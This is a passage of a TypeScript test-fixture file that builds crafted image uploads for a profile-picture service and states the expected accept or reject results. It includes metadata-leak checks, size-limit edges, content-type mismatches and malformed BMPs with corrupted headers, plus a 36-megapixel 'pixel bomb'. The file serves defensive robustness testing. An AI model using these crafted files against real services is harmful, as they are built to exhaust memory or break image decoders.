        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 0/1' },
      })
      .jpeg()
      .toBuffer(),
    expect: everywhere(accept),
    mustNotLeak: ['GPS', 'Exif', 'SECRET-CAM', 'SECRET-OWNER'],
  });
  add({
    name: 'JPEG with GPS in XMP',
    slug: 'xmp-gps',
    ext: 'jpg',
    bytes: await sharp(await makePhoto('jpeg', 300, 300))
      .withXmp(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,30.0N" exif:GPSLongitude="0,7.0W"/></rdf:RDF></x:xmpmeta>',
      )
      .jpeg()
      .toBuffer(),
    expect: everywhere(accept),
    mustNotLeak: ['GPSLatitude', 'xmpmeta', 'adobe:ns:meta'],
  });
  add({
    name: 'PNG with an eXIf chunk (GPS, copyright)',
    slug: 'png-exif',
    ext: 'png',
    bytes: await sharp(await makePhoto('png', 300, 300))
      .withExif({ IFD0: { Copyright: 'SECRET-OWNER' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } })
      .png()
      .toBuffer(),
    expect: everywhere(accept),
    mustNotLeak: ['SECRET-OWNER', 'eXIf'],
  });

  // --- size edges ------------------------------------------------------------------------------
  add({
    name: 'a 47×47 JPEG (one pixel short)',
    slug: 'tiny47',
    ext: 'jpg',
    bytes: await makePhoto('jpeg', 47, 47),
    expect: everywhere(reject(400, /48×48/)),
  });
  add({
    name: 'a 1×1 PNG',
    slug: 'tiny1',
    ext: 'png',
    bytes: await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } })
      .png()
      .toBuffer(),
    expect: everywhere(reject(400, /48×48/)),
  });
  add({ name: 'a 48×2000 PNG (a strip)', slug: 'strip', ext: 'png', bytes: await makePhoto('png', 48, 2000), expect: everywhere(accept) });

  // --- wrong declared type ---------------------------------------------------------------------
  for (const [label, contentType, bytes, ext] of [
    ['JPEG declared text/plain', 'text/plain', small, 'txt'],
    ['JPEG declared image/png', 'image/png', small, 'png'],
    ['PNG declared image/jpeg', 'image/jpeg', await makePhoto('png', 120, 120, { color: '#118811' }), 'jpg'],
    ['JPEG declared application/json (as the Graph SDK sends it)', 'application/json', small, 'json'],
    ['JPEG declared application/x-www-form-urlencoded', 'application/x-www-form-urlencoded', small, 'jpg'],
    ['JPEG declared multipart/form-data without a boundary', 'multipart/form-data', small, 'jpg'],
    ['JPEG declared text/html', 'text/html; charset=utf-8', small, 'html'],
  ] as const) {
    add({
      name: `valid ${label}`,
      slug: `type-${contentType.replace(/[^a-z]/g, '').slice(0, 20)}`,
      ext,
      bytes,
      contentType,
      expect: everywhere(accept),
    });
  }
  // Not a media type at all: taking the bytes or refusing the header with a clear 4xx are both fine.
  add({
    name: 'valid JPEG declared with a malformed type (garbage/ÿþ;;;=)',
    slug: 'type-garbage',
    ext: 'bin',
    bytes: small,
    contentType: 'garbage/\u00ff\u00fe;;;=',
    expect: everywhere(either),
  });
  add({
    name: 'HTML declared image/jpeg',
    slug: 'html-as-jpeg',
    ext: 'jpg',
    bytes: Buffer.from(`<!doctype html>${script}`),
    contentType: 'image/jpeg',
    expect: everywhere(reject(400, notImage)),
  });

  // --- over-limit and at-limit bodies ------------------------------------------------------------
  add({
    name: 'over the Graph limit: 4 MB + 1 byte (JPEG signature, then zeros)',
    slug: 'graph-limit-plus-1',
    ext: 'jpg',
    bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(GRAPH_LIMIT + 1 - 3)]),
    expect: (p) => (isHttpGraphLike(p) ? reject(413, /4(\.0)? MB/) : reject(400, damaged)),
  });
  add({
    name: 'exactly 4 MB: a valid JPEG padded with comments to 4,194,304 bytes',
    slug: 'graph-limit-exact',
    ext: 'jpg',
    bytes: jpegOfExactSize(jpeg, GRAPH_LIMIT),
    expect: everywhere(accept),
  });
  add({
    name: 'over the SetMyProfilePicture limit: 5,000,001 bytes (JPEG signature, then zeros)',
    slug: 'sp-limit-plus-1',
    ext: 'jpg',
    bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(SHAREPOINT_LIMIT + 1 - 3)]),
    expect: (p) =>
      p === 'set-my-profile-picture'
        ? reject(413, /5,000,000 bytes/)
        : isHttpGraphLike(p)
          ? reject(413, /4(\.0)? MB/)
          : reject(400, damaged),
  });
  add({
    name: 'exactly 5,000,000 bytes: a valid JPEG padded with comments',
    slug: 'sp-limit-exact',
    ext: 'jpg',
    bytes: jpegOfExactSize(jpeg, SHAREPOINT_LIMIT),
    expect: (p) => (isHttpGraphLike(p) ? reject(413, /4(\.0)? MB/) : accept),
  });

  // --- other formats ---------------------------------------------------------------------------
  const still = sharp({ create: { width: 200, height: 200, channels: 3, background: '#777777' } });
  add({ name: 'TIFF', slug: 'tiff', ext: 'jpg', bytes: await still.clone().tiff().toBuffer(), expect: everywhere(reject(415, /TIFF/)) });
  add({ name: 'AVIF', slug: 'avif', ext: 'jpg', bytes: await still.clone().avif().toBuffer(), expect: everywhere(reject(415, /AVIF/)) });
  add({
    name: 'HEIC brand with junk',
    slug: 'heic',
    ext: 'jpg',
    bytes: Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), rng.bytes(500)]),
    expect: everywhere(reject(415, /HEIC/)),
  });
  add({
    name: 'Photoshop PSD header',
    slug: 'psd',
    ext: 'jpg',
    bytes: Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), rng.bytes(500)]),
    expect: everywhere(reject(400, notImage)),
  });
  add({
    name: 'JPEG 2000',
    slug: 'jp2',
    ext: 'jpg',
    bytes: Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), rng.bytes(500)]),
    expect: everywhere(reject(400, notImage)),
  });

  // --- BMP (SetMyProfilePicture decodes it by hand; the others must refuse it) -----------------
  const bmpPixel = (_x: number, y: number): [number, number, number] => (y < 100 ? [220, 20, 20] : [20, 20, 220]);
  const bmp = makeBmp(200, 200, bmpPixel);
  add({
    name: 'valid 24-bit BMP',
    slug: 'bmp',
    ext: 'bmp',
    bytes: bmp,
    expect: (p) => (p === 'set-my-profile-picture' ? accept : reject(415, /BMP/)),
  });
  const bmpPatched = (patch: (b: Buffer) => void, base = bmp) => {
    const out = Buffer.from(base);
    patch(out);
    return out;
  };
  const bmpBad = (message?: RegExp) => (p: UploadPath) => (p === 'set-my-profile-picture' ? reject(400, message) : reject(415, /BMP/));
  add({ name: 'BMP truncated to 3000 bytes', slug: 'bmp-trunc', ext: 'bmp', bytes: bmp.subarray(0, 3000), expect: bmpBad(/BMP/) });
  add({ name: 'BMP header only (30 bytes)', slug: 'bmp-30', ext: 'bmp', bytes: bmp.subarray(0, 30), expect: bmpBad(/BMP/) });
  add({
    name: 'BMP declaring 100000×100000',
    slug: 'bmp-huge',
    ext: 'bmp',
    bytes: bmpPatched((b) => (b.writeInt32LE(100_000, 18), b.writeInt32LE(100_000, 22))),
    expect: bmpBad(/megapixels|BMP/),
  });
  add({
    name: 'BMP declaring width 2^31-1, height -2^31',
    slug: 'bmp-extreme',
    ext: 'bmp',
    bytes: bmpPatched((b) => (b.writeInt32LE(0x7fffffff, 18), b.writeInt32LE(-0x80000000, 22))),
    expect: bmpBad(/BMP/),
  });
  add({
    name: 'BMP with negative width',
    slug: 'bmp-negw',
    ext: 'bmp',
    bytes: bmpPatched((b) => b.writeInt32LE(-200, 18)),
    expect: bmpBad(/BMP/),
  });
  add({
    name: 'BMP with RLE8 compression',
    slug: 'bmp-rle',
    ext: 'bmp',
    bytes: bmpPatched((b) => (b.writeUInt16LE(8, 28), b.writeUInt32LE(1, 30))),
    expect: bmpBad(/BMP/),
  });
  add({
    name: 'BMP with 16 bits a pixel',
    slug: 'bmp-16',
    ext: 'bmp',
    bytes: bmpPatched((b) => b.writeUInt16LE(16, 28)),
    expect: bmpBad(/BMP/),
  });
  add({
    name: 'BMP with an OS/2 (12-byte) header',
    slug: 'bmp-os2',
    ext: 'bmp',
    bytes: bmpPatched((b) => b.writeUInt32LE(12, 14)),
    expect: bmpBad(/BMP/),
  });
  add({
    name: 'BMP whose pixel data offset lies past the end',
    slug: 'bmp-offset',
    ext: 'bmp',
    bytes: bmpPatched((b) => b.writeUInt32LE(0xfffffff0, 10)),
    expect: bmpBad(/BMP/),
  });
  {
    // 8-bit, a 2-colour table, pixels pointing at colour 200.
    const width = 100;
    const rowSize = 100;
    const out = Buffer.alloc(54 + 8 + rowSize * 100, 200);
    out.write('BM', 0, 'latin1');
    out.writeUInt32LE(out.length, 2);
    out.writeUInt32LE(62, 10);
    out.writeUInt32LE(40, 14);
    out.writeInt32LE(width, 18);
    out.writeInt32LE(100, 22);
    out.writeUInt16LE(1, 26);
    out.writeUInt16LE(8, 28);
    out.writeUInt32LE(0, 30);
    out.writeUInt32LE(2, 46);
    out.fill(0, 54, 62);
    add({ name: 'BMP whose pixels point outside its colour table', slug: 'bmp-palette', ext: 'bmp', bytes: out, expect: bmpBad(/BMP/) });
  }
  add({ name: 'a 10×10 BMP', slug: 'bmp-tiny', ext: 'bmp', bytes: makeBmp(10, 10, bmpPixel), expect: bmpBad(/48×48/) });
  {
    const bomb = oneBitBmp(6000, 6000);
    add({
      name: `BMP pixel bomb: 1-bit 6000×6000 (36 MP in ${(bomb.length / 1e6).toFixed(1)} MB)`,
      slug: 'bmp-bomb',
      ext: 'bmp',
      bytes: bomb,
      // 4.5 MB: over the 4 MB of the Graph-like paths, under the import's 20 MB (where it is a BMP, refused).
      expect: (p) => (p === 'set-my-profile-picture' ? either : isHttpGraphLike(p) ? reject(413, /4(\.0)? MB/) : reject(415, /BMP/)),
    });
  }
  return { known, items };
}
